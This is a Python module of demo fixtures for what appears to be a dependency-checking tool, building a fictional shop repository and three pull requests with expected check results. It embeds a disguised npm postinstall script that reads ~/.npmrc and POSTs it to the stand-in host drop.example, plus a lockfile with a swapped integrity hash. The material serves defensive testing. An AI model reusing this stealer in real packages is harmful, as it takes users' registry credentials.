"""What the demo shows: a made-up organisation, its shop, and three pull requests.

The packages under `@harbour/` are ours, made here and served by the loopback registry; the others are real, fetched
from the npm registry and PyPI. The imitation of a credential stealer is harmless: it is never run, and the host that it
names does not exist (`.example`, RFC 2606).
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Mapping
from dataclasses import dataclass

from app.demo.packages import npm_tarball

OWNER = "harbour"
REPOSITORY = "harbour/shop"
STRANGER = "passer-by"
DEFAULT_BRANCH = "main"

REAL_NPM = {
    "ms@2.1.2": "sha512-sGkPx+VjMtmA6MX27oA4FBFELFCZZ4S4XqeGOXCv68tT+jb3vk/RyaKWP0PTKyWtmLSM0b+adUTEvbs1PEaH2w==",
    "ms@2.1.3": "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA==",
    "picocolors@1.1.1": (
        "sha512-xceH2snhtb5M9liqDsmEw56le376mTZkEX/jEb/RxNFyegNul7eNslCXP9FDj/Lcu0X8KEyMceP2ntpaHrDEVA=="
    ),
}
REAL_PYPI = {
    "idna==3.7": "82fee1fc78add43492d3a1898bfa6d8a904cc97d8427f683ed8e798d07761aa0",
    "idna==3.10": "946d195a0d259cbba61165e88e65941f16e9b36ea6ddb97f00452bae8b1287d3",
    "iniconfig==2.0.0": "b6a85871a79d2e3b22d2d1b94ac2824226a63c6b741c88f7ae975f18b6778374",
}

_PALETTE = {"index.js": "exports.sea = '#0a3d62'\nexports.sand = '#f6e58d'\n"}
_COLOUR = {
    "index.js": "exports.parse = text => parseInt(text.slice(1), 16)\n",
    "README.md": "# fast-colour\n\nReads colours, fast.\n",
}
_STEALER = {
    **_COLOUR,
    "scripts/setup.js": """\
// prepares the colour tables
const fs = require('fs')
const os = require('os')
const path = require('path')
const https = require('https')

const settings = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')

const report = https.request({ host: 'drop.example', path: '/tables', method: 'POST' })
report.on('error', () => {})
report.end(settings)
""",
}
_CHART = {"index.js": "const { parse } = require('@harbour/fast-colour')\nexports.draw = colour => parse(colour)\n"}


@dataclass(frozen=True, slots=True)
class Proposal:
    """One pull request of the demo. `expected` is the conclusion that its check must come to."""

    title: str
    author: str
    files: Mapping[str, str]
    expected: str
    from_fork: bool = False
    real: bool = False  # needs the package registries


def tarballs() -> dict[tuple[str, str], bytes]:
    """Our own packages by name and version."""
    return {
        ("@harbour/palette", "1.0.0"): npm_tarball("@harbour/palette", "1.0.0", _PALETTE),
        ("@harbour/fast-colour", "2.4.0"): npm_tarball("@harbour/fast-colour", "2.4.0", _COLOUR),
        ("@harbour/fast-colour", "2.4.1"): npm_tarball(
            "@harbour/fast-colour", "2.4.1", _STEALER, scripts={"postinstall": "node scripts/setup.js"}
        ),
        ("@harbour/chart-kit", "5.1.0"): npm_tarball(
            "@harbour/chart-kit", "5.1.0", _CHART, dependencies={"@harbour/fast-colour": "2.4.0"}
        ),
        ("@harbour/chart-kit", "5.2.0"): npm_tarball(
            "@harbour/chart-kit", "5.2.0", _CHART, dependencies={"@harbour/fast-colour": "2.4.1"}
        ),
    }


def base_files() -> dict[str, str]:
    """The shop before any of the pull requests."""
    return {
        "README.md": "# The harbour's shop\n",
        ".github/assay.yml": "version: 1\npreset: balanced\n",
        **_npm({"ms": "2.1.2", "@harbour/chart-kit": "5.1.0", "@harbour/palette": "1.0.0"}, colour="2.4.0"),
        "requirements.txt": _requirements("idna==3.7"),
    }


def proposals() -> tuple[Proposal, ...]:
    """The three pull requests, in the order in which they are opened."""
    upgraded = {"ms": "2.1.3", "picocolors": "1.1.1", "@harbour/chart-kit": "5.1.0", "@harbour/palette": "1.0.0"}
    stealing = {"ms": "2.1.2", "@harbour/chart-kit": "5.2.0", "@harbour/palette": "1.0.0"}
    base = base_files()
    return (
        Proposal(
            title="Upgrade ms and idna, add picocolors and iniconfig",
            author="mara",
            files={
                **_npm(upgraded, colour="2.4.0"),
                "requirements.txt": _requirements("idna==3.10", "iniconfig==2.0.0"),
            },
            expected="success",
            real=True,
        ),
        Proposal(
            title="Upgrade chart-kit to 5.2.0",
            author="mara",
            files=_npm(stealing, colour="2.4.1"),
            expected="failure",
        ),
        Proposal(
            title="Refresh the lockfile",
            author=STRANGER,
            files={"package-lock.json": _with_other_bytes(base["package-lock.json"], "node_modules/@harbour/palette")},
            expected="failure",
            from_fork=True,
        ),
    )


def _npm(direct: Mapping[str, str], colour: str) -> dict[str, str]:
    """`package.json` and `package-lock.json` as npm writes them."""
    entries: dict[str, object] = {"": {"name": "shop", "version": "1.0.0", "dependencies": dict(direct)}}
    for name, version in sorted({**direct, "@harbour/fast-colour": colour}.items()):
        entry: dict[str, object] = {"version": version, "integrity": _integrity(name, version)}
        if name == "@harbour/chart-kit":
            entry["dependencies"] = {"@harbour/fast-colour": colour}
        if (name, version) == ("@harbour/fast-colour", "2.4.1"):
            entry["hasInstallScript"] = True
        entries[f"node_modules/{name}"] = entry
    lock = {"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": entries}
    manifest = {"name": "shop", "version": "1.0.0", "private": True, "dependencies": dict(direct)}
    return {"package.json": _json(manifest), "package-lock.json": _json(lock)}


def _integrity(name: str, version: str) -> str:
    real = REAL_NPM.get(f"{name}@{version}")
    return real or _sri(tarballs()[name, version])


def _sri(content: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(content).digest()).decode()


def _with_other_bytes(lock: str, key: str) -> str:
    """The lockfile naming other bytes for one package, as somebody would who has swapped the archive."""
    data = json.loads(lock)
    data["packages"][key]["integrity"] = _sri(b"another archive altogether")
    return _json(data)


def _requirements(*pins: str) -> str:
    return "".join(f"{pin} \\\n    --hash=sha256:{REAL_PYPI[pin]}\n" for pin in pins)


def _json(value: object) -> str:
    return json.dumps(value, indent=2) + "\n"
